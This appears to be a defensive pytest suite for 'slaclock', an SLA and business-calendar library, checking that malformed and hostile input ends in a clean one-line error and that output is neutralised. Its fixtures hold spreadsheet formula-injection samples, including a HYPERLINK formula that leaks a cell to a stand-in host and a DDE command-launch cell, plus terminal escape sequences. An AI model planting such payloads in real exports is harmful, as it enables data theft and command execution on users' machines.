"""Hostile and broken input: never a traceback, never a hang, never a live formula (issue 13).

The corpus in ``tests/data/hostile/`` holds one file per case; ``manifest.toml`` names
each file's kind, the exception class the library raises and a piece of the message.
Every command that reads that kind of file runs over it in a subprocess limited in
memory (``RLIMIT_AS``) and time, and must exit 2 with exactly one line on stderr and
no traceback. The library is then asked directly, and must raise the named class.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import resource
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import tomllib

import slaclock.errors
from slaclock import Calendar, Clock, Policy
from slaclock.cli import main
from slaclock.config import load_calendars
from slaclock.errors import ClockError, OutOfRangeError, ScheduleError
from slaclock.reports.uptime import read_outages
from slaclock.sla.tickets import evaluate_tickets, read_tickets

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "tests" / "data" / "hostile"
EXAMPLES = ROOT / "examples" / "data"
POLICY = EXAMPLES / "desk_policy.toml"
TICKETS = EXAMPLES / "tickets.jsonl"
CALENDARS = EXAMPLES / "calendars.toml"
NOW = "2026-12-01T00:00+00:00"
#: Each case's limits: far above what a good run needs, far below what the attacks took.
MEMORY_LIMIT = 1024 * 1024 * 1024
TIME_LIMIT = 60

CASES: list[dict[str, str]] = tomllib.loads((CORPUS / "manifest.toml").read_text())["case"]


def _commands(case: dict[str, str], folder: Path) -> list[list[str]]:
    """Return every command line that reads the case's file."""
    path = str(CORPUS / case["file"])
    outages = folder / "outages.csv"
    outages.write_text("service,start,end\nmail,2026-10-05T10:00Z,2026-10-05T11:00Z\n")
    kind = case["kind"]
    if kind == "calendar":
        return [
            ["due", "--calendar", path, "--start", NOW, "--target", "1h"],
            ["elapsed", "--calendar", path, "--from", NOW, "--to", "2026-12-02T00:00Z"],
            ["open", "--calendar", path, "--at", NOW],
            ["uptime", "--calendar", path, "--outages", str(outages), "--period", "2026-10"],
        ]
    if kind == "policy":
        return [
            ["evaluate", "--policy", path, str(TICKETS), "--now", NOW],
            ["report", "--policy", path, str(TICKETS), "--period", "2026-11", "--now", NOW],
        ]
    if kind == "tickets":
        policy = str(CORPUS / case.get("policy", "")) if "policy" in case else str(POLICY)
        return [
            ["evaluate", "--policy", policy, path, "--now", NOW],
            ["evaluate", "--policy", policy, path, "--now", NOW, "--format", "csv"],
            ["report", "--policy", policy, path, "--period", "2026-11", "--now", NOW],
        ]
    assert kind == "outages", kind
    calendar = f"{CALENDARS}:always"
    return [["uptime", "--calendar", calendar, "--outages", path, "--period", "2026-10"]]


def _limits() -> None:  # runs in the child, before slaclock starts
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def _address_space() -> int:
    """Return this process's virtual memory size in bytes (Linux), or 0 when unknown."""
    try:
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmSize:"):
                return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


def run_forked(args: list[str], cwd: Path) -> tuple[int, str, str]:
    """Run ``main(args)`` in a forked child with the limits; return (status, stdout, stderr).

    Forking from the test process skips the interpreter's start-up and imports, so a
    case costs milliseconds; the child gets ``MEMORY_LIMIT`` more address space than it
    inherits and is killed after ``TIME_LIMIT`` seconds.
    """
    out_path, err_path = cwd / "fork.out", cwd / "fork.err"
    pid = os.fork()
    if pid == 0:  # the child: never returns
        status = 99
        try:
            room = _address_space() + MEMORY_LIMIT // 2
            resource.setrlimit(resource.RLIMIT_AS, (room, room))
            os.chdir(cwd)
            with (
                out_path.open("w", encoding="utf-8", errors="backslashreplace") as out,
                err_path.open("w", encoding="utf-8", errors="backslashreplace") as err,
            ):
                try:
                    status = main(args, out, err)
                except BaseException:
                    import traceback

                    err.write(traceback.format_exc())
        finally:
            os._exit(status)
    deadline = time.monotonic() + TIME_LIMIT
    while True:
        done, code = os.waitpid(pid, os.WNOHANG)
        if done:
            break
        if time.monotonic() > deadline:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
            pytest.fail(f"slaclock {' '.join(args)} ran past {TIME_LIMIT} s")
        time.sleep(0.005)
    status = os.waitstatus_to_exitcode(code)
    return status, out_path.read_text(), err_path.read_text()


def run_cli(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run ``slaclock args`` in a subprocess with the memory and time limits."""
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"), PYTHONIOENCODING="utf-8")
    return subprocess.run(
        [sys.executable, "-m", "slaclock", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="backslashreplace",
        timeout=TIME_LIMIT,
        preexec_fn=_limits,
        env=env,
        cwd=cwd,
        check=False,
    )


def _load(case: dict[str, str]) -> object:
    """Load the case's file with the library, as far as its kind goes."""
    path = CORPUS / case["file"]
    kind = case["kind"]
    if kind == "calendar":
        return load_calendars(path)
    if kind == "policy":
        return Policy.load(path)
    if kind == "tickets":
        policy = Policy.load(CORPUS / case["policy"] if "policy" in case else POLICY)
        now = dt.datetime.fromisoformat(NOW)
        return list(evaluate_tickets(policy, read_tickets(path), now))
    return read_outages(path)


@pytest.mark.parametrize("case", CASES, ids=[case["file"] for case in CASES])
def test_every_command_refuses_the_case_in_one_line(case: dict[str, str], tmp_path: Path) -> None:
    for args in _commands(case, tmp_path):
        status, stdout, stderr = run_forked(args, tmp_path)
        lines = stderr.splitlines()
        assert status == 2, (args, stderr[-2000:])
        assert len(lines) == 1, (args, stderr[-2000:])
        assert "Traceback" not in stderr
        assert lines[0].startswith("slaclock: "), lines[0]
        assert case["expect"] in lines[0], (args, lines[0])
        assert len(lines[0]) < 1200
        assert stdout == ""


def test_the_limits_hold_in_a_separate_interpreter(tmp_path: Path) -> None:
    # One case end to end as a user runs it: a fresh process under RLIMIT_AS.
    case = next(case for case in CASES if case["file"] == "yaml_alias_bomb.yaml")
    done = run_cli(_commands(case, tmp_path)[0], tmp_path)
    assert done.returncode == 2, done.stderr
    assert done.stderr.splitlines() == [done.stderr.strip()]
    assert case["expect"] in done.stderr


@pytest.mark.parametrize("case", CASES, ids=[case["file"] for case in CASES])
def test_the_library_raises_the_named_class(case: dict[str, str]) -> None:
    expected = getattr(slaclock.errors, case["error"])
    with pytest.raises(expected) as info:
        _load(case)
    assert case["expect"] in str(info.value)
    assert len(str(info.value)) < 2000


def test_the_manifest_names_every_file_once() -> None:
    # The policies that ticket cases name are in the corpus too.
    named = [case["file"] for case in CASES] + ["closed_policy.toml", "zone_policy.toml"]
    assert len(named) == len(set(named))
    on_disk = {path.name for path in CORPUS.iterdir()} - {"manifest.toml"}
    assert on_disk == set(named)


@pytest.mark.parametrize(
    ("args", "expect"),
    [
        (["--target", "99999999999h"], "MAX_TARGET"),
        (["--target", "PT99999999999999999999H"], "MAX_TARGET"),
        (["--target", "9" * 5000 + "d"], "not a target"),
        (["--start", "0001-01-01T00:00+05:00"], "outside the years 1900 to 2199"),
        (["--start", "9999-12-31T00:00+00:00"], "outside the years 1900 to 2199"),
    ],
)
def test_command_line_values_are_bounded(args: list[str], expect: str, tmp_path: Path) -> None:
    base = {"--start": NOW, "--target": "1h"}
    for name, value in zip(args[::2], args[1::2], strict=True):
        base[name] = value
    command = ["due", "--calendar", f"{CALENDARS}:support"]
    for name, value in base.items():
        command += [name, value]
    status, _, stderr = run_forked(command, tmp_path)
    assert status == 2, stderr
    assert len(stderr.splitlines()) == 1, stderr
    assert expect in stderr


@pytest.mark.parametrize(
    "period", ["0001-01-01..9999-12-31", "9999-12-31", "1899", "2200-Q1", "9999-13"]
)
def test_report_periods_are_bounded(period: str, tmp_path: Path) -> None:
    outages = tmp_path / "o.csv"
    outages.write_text("service,start,end\nweb,2026-10-01T00:00Z,2026-10-01T01:00Z\n")
    command = ["uptime", "--calendar", f"{CALENDARS}:support", "--outages", str(outages)]
    status, _, stderr = run_forked([*command, "--period", period], tmp_path)
    assert status == 2, stderr
    assert len(stderr.splitlines()) == 1, stderr
    assert stderr.startswith("slaclock: --period: ")


def test_a_very_long_ticket_line_is_refused_without_reading_it_whole(tmp_path: Path) -> None:
    tickets = tmp_path / "long.jsonl"
    with tickets.open("w") as out:
        out.write('{"id": "' + "x" * (3 * 1024 * 1024) + '", "events": []}\n')
    args = ["evaluate", "--policy", str(POLICY), str(tickets), "--now", NOW]
    status, _, stderr = run_forked(args, tmp_path)
    assert status == 2
    assert "MAX_LINE_BYTES" in stderr
    assert len(stderr.splitlines()) == 1


# -- --skip-bad skips every per-ticket error --------------------------------------


def _ticket(ident: str, at: str = "2026-11-20T16:55+00:00", **fields: Any) -> str:
    return json.dumps(
        {"id": ident, "events": [{"at": at, "type": "logged", "priority": "P1"}], **fields}
    )


def test_skip_bad_skips_an_unmeetable_target_and_names_the_ticket(tmp_path: Path) -> None:
    tickets = tmp_path / "t.jsonl"
    tickets.write_text(_ticket("T-1") + "\n" + _ticket("T-2") + "\n")
    err = io.StringIO()
    policy = str(CORPUS / "closed_policy.toml")
    status = main(
        ["evaluate", "--policy", policy, str(tickets), "--now", NOW, "--skip-bad"],
        io.StringIO(),
        err,
    )
    assert status == 0
    lines = err.getvalue().splitlines()
    assert lines[0].startswith(f"slaclock: skipped: {tickets}:1: ")
    assert lines[-1] == f"slaclock: {tickets}: skipped 2 bad input(s)"


def test_skip_bad_skips_tickets_out_of_range_and_goes_on(tmp_path: Path) -> None:
    tickets = tmp_path / "t.jsonl"
    lines = [
        _ticket("A", "0001-01-01T00:00+05:00"),
        '{"id": "B", "events": ' + "[" * 3000 + "]" * 3000 + "}",
        '{"id": 1' + "0" * 4400 + ', "events": []}',
        _ticket("C"),
    ]
    tickets.write_text("\n".join(lines) + "\n")
    out, err = io.StringIO(), io.StringIO()
    args = ["evaluate", "--policy", str(POLICY), str(tickets), "--now", NOW, "--skip-bad"]
    assert main([*args, "--format", "json"], out, err) == 0
    document = json.loads(out.getvalue())
    assert [item["id"] for item in document["tickets"]] == ["C"]
    assert document["skipped"] == 3


# -- outputs: CSV cells inert, text shown not obeyed, any id written ---------------

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_CUSTOMER = "\x1b]0;pwned\x07\x1b[2J\u202eTOTAL\r\n"


@pytest.fixture
def hostile_tickets(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.jsonl"
    rows = [
        _ticket(HOSTILE_ID, customer=HOSTILE_CUSTOMER),
        _ticket("+cmd|' /C calc'!A0", customer="@SUM(1+1)"),
        _ticket("-2+3", customer="\tTAB"),
        _ticket("T\ud800", customer="\rCR"),
    ]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8", errors="surrogatepass")
    return path


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("command", ["evaluate", "report"])
def test_csv_cells_that_a_spreadsheet_would_run_are_inert(
    command: str, hostile_tickets: Path
) -> None:
    out = io.StringIO()
    args = [command, "--policy", str(POLICY), str(hostile_tickets), "--now", NOW]
    if command == "report":
        args += ["--period", "2026-11", "--by", "customer"]
    assert main([*args, "--format", "csv"], out, io.StringIO()) == 0
    cells = _csv_cells(out.getvalue())
    live = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert live == []
    assert "'@SUM(1+1)" in cells
    # Numbers stay numbers, and durations stay durations, even when negative.
    assert all(not cell.startswith("'-") or cell == "'-2+3" for cell in cells)
    raw = io.StringIO()
    assert main([*args, "--format", "csv", "--raw-csv"], raw, io.StringIO()) == 0
    assert "@SUM(1+1)" in _csv_cells(raw.getvalue())


def test_uptime_csv_service_names_are_inert(tmp_path: Path) -> None:
    outages = tmp_path / "o.csv"
    outages.write_text('service,start,end\n"=1+2",2026-10-05T10:00Z,2026-10-05T11:00Z\n')
    out = io.StringIO()
    args = ["uptime", "--calendar", f"{CALENDARS}:always", "--outages", str(outages)]
    assert main([*args, "--period", "2026-10", "--format", "csv"], out, io.StringIO()) == 0
    assert "'=1+2" in _csv_cells(out.getvalue())


@pytest.mark.parametrize("command", ["evaluate", "report"])
def test_text_output_shows_control_and_bidi_characters_as_escapes(
    command: str, hostile_tickets: Path
) -> None:
    out = io.StringIO()
    args = [command, "--policy", str(POLICY), str(hostile_tickets), "--now", NOW]
    if command == "report":
        args += ["--period", "2026-11", "--by", "customer"]
    assert main(args, out, io.StringIO()) == 0
    text = out.getvalue()
    assert not any(char in text for char in "\x1b\x07\r\u202e\t")
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\u202eTOTAL\\r\\n" in text
    assert all(line.count("  ") for line in text.splitlines() if "TOTAL" in line)


@pytest.mark.parametrize("form", ["table", "json", "csv"])
def test_an_id_with_a_lone_surrogate_is_written_as_its_escape(
    form: str, hostile_tickets: Path, tmp_path: Path
) -> None:
    target = tmp_path / f"out.{form}"
    args = ["evaluate", "--policy", str(POLICY), str(hostile_tickets), "--now", NOW]
    done = run_cli([*args, "--format", form], tmp_path)
    assert done.returncode == 0, done.stderr
    assert "T\\ud800" in done.stdout
    assert main([*args, "--format", form, "--output", str(target)]) == 0
    assert "T\\ud800" in target.read_text(encoding="utf-8")
    if form == "json":
        ids = [item["id"] for item in json.loads(target.read_text())["tickets"]]
        assert "T\ud800" in ids  # JSON's own escape: the same id read back


# -- the last resort: a bug is one line, --debug shows the traceback -----------------


def test_an_unexpected_error_is_reported_as_a_bug_in_one_line(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from slaclock.cli import _commands

    def broken(*args: object) -> int:
        raise RuntimeError("something\nunforeseen")

    monkeypatch.setattr(_commands, "_cmd_demo", broken)
    err = io.StringIO()
    assert main(["demo"], io.StringIO(), err) == 70
    lines = err.getvalue().splitlines()
    assert lines == [
        "slaclock: internal error (a bug, please report it): RuntimeError: something "
        "(and 1 more problem); re-run with --debug for the traceback"
    ]
    err = io.StringIO()
    assert main(["demo", "--debug"], io.StringIO(), err) == 70
    assert err.getvalue().startswith("Traceback (most recent call last):")
    assert "RuntimeError: something" in err.getvalue()


def test_error_messages_cannot_paint_the_terminal(tmp_path: Path) -> None:
    calendar = tmp_path / "c.toml"
    calendar.write_text('[calendars.s]\ntz = "\\u001b[2J\\u202e"\nalways = true\n')
    err = io.StringIO()
    assert main(["open", "--calendar", str(calendar)], io.StringIO(), err) == 2
    assert "\x1b" not in err.getvalue()
    assert "\u202e" not in err.getvalue()
    assert len(err.getvalue().splitlines()) == 1


# -- friendly files ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("c.toml", '[calendars.s]\ntz = "UTC"\nalways = true\n'),
        ("c.json", '{"calendars": {"s": {"tz": "UTC", "always": true}}}'),
        ("c.yaml", "calendars:\n  s: {tz: UTC, always: true}\n"),
    ],
)
def test_a_byte_order_mark_is_accepted(name: str, text: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(b"\xef\xbb\xbf" + text.encode())
    assert main(["open", "--calendar", str(path), "--at", NOW], io.StringIO()) == 0


def test_tickets_and_outages_may_start_with_a_byte_order_mark(tmp_path: Path) -> None:
    tickets = tmp_path / "t.jsonl"
    tickets.write_bytes(b"\xef\xbb\xbf" + _ticket("T-1").encode() + b"\n")
    assert [ticket.id for ticket in read_tickets(tickets)] == ["T-1"]
    outages = tmp_path / "o.csv"
    outages.write_bytes(
        b"\xef\xbb\xbfservice,start,end\nmail,2026-10-05T10:00Z,2026-10-05T11:00Z\n"
    )
    assert [outage.service for outage in read_outages(outages)] == ["mail"]


def test_output_keeps_the_mode_of_the_file_it_replaces(tmp_path: Path) -> None:
    target = tmp_path / "private.csv"
    target.write_text("old")
    target.chmod(0o600)
    args = ["evaluate", "--policy", str(POLICY), str(TICKETS), "--now", NOW]
    assert main([*args, "--output", str(target)], io.StringIO(), io.StringIO()) == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.read_text().startswith("ticket,")


# -- engine bounds -----------------------------------------------------------------------


def test_instants_near_the_ends_of_time_are_out_of_range() -> None:
    calendar = Calendar.weekly({"mon-fri": "09:00-17:00"}, tz="Europe/London")
    east = dt.timezone(dt.timedelta(hours=5))
    for instant in (
        dt.datetime(1, 1, 1, tzinfo=east),
        dt.datetime(9999, 12, 31, 23, tzinfo=dt.timezone.utc),
    ):
        with pytest.raises(OutOfRangeError):
            calendar.is_open(instant)
        with pytest.raises(OutOfRangeError):
            calendar.add(instant, dt.timedelta(hours=1))
    start = dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)
    with pytest.raises(OutOfRangeError):
        calendar.add(start, dt.timedelta(days=365 * 10_000))
    with pytest.raises(OutOfRangeError):
        calendar.subtract(start, dt.timedelta(days=365 * 10_000))


def test_holidays_objects_combined_or_bare_work() -> None:
    holidays = pytest.importorskip("holidays")
    start = dt.datetime(2026, 7, 1, tzinfo=dt.timezone.utc)
    end = dt.datetime(2026, 9, 1, tzinfo=dt.timezone.utc)
    hours = {"mon-fri": "09:00-17:00"}
    both = Calendar.weekly(hours, tz="UTC", holidays=holidays.GB() + holidays.US())
    # A day is a holiday when either country has one (3 July 2026: US, observed).
    gb, us = holidays.GB(), holidays.US()
    days = [start.date() + dt.timedelta(days=n) for n in range((end - start).days)]
    open_days = [day for day in days if day.weekday() < 5 and day not in gb and day not in us]
    assert dt.date(2026, 7, 3) not in open_days
    assert both.elapsed(start, end) == dt.timedelta(hours=8 * len(open_days))
    assert Calendar.from_dict(both.to_dict()) == both
    bare = holidays.HolidayBase()
    bare[dt.date(2026, 7, 6)] = "Office move"
    one = Calendar.weekly(hours, tz="UTC", holidays=bare)
    assert not one.is_open(dt.datetime(2026, 7, 6, 10, tzinfo=dt.timezone.utc))
    assert Calendar.weekly(hours, tz="UTC", holidays=holidays.HolidayBase()).is_open(
        dt.datetime(2026, 7, 6, 10, tzinfo=dt.timezone.utc)
    )


def test_a_search_that_runs_off_the_end_of_time_is_out_of_range() -> None:
    calendar = Calendar.weekly({"mon": "09:00-09:01"}, tz="UTC")
    with pytest.raises(OutOfRangeError):  # one minute a week: 300 days take 400,000 years
        calendar.add(dt.datetime(9990, 1, 1, tzinfo=dt.timezone.utc), dt.timedelta(days=300))


@pytest.mark.parametrize("depth", [70, 5000])
def test_deeply_composed_calendar_data_is_refused_before_recursing(depth: int) -> None:
    leaf: dict[str, Any] = {"kind": "weekly", "tz": "UTC", "hours": {"mon": "09:00-17:00"}}
    node = leaf
    for _ in range(depth):
        node = {"kind": "difference", "of": [node, leaf]}
    with pytest.raises(ScheduleError, match="MAX_DEPTH"):
        Calendar.from_dict(node)
    clock = Clock.start(Calendar.from_dict(leaf), dt.datetime(2026, 1, 5, 10, tzinfo=dt.UTC))
    data = {**clock.to_dict(), "calendar": node}
    with pytest.raises(ClockError, match="MAX_DEPTH"):
        Clock.from_dict(data)
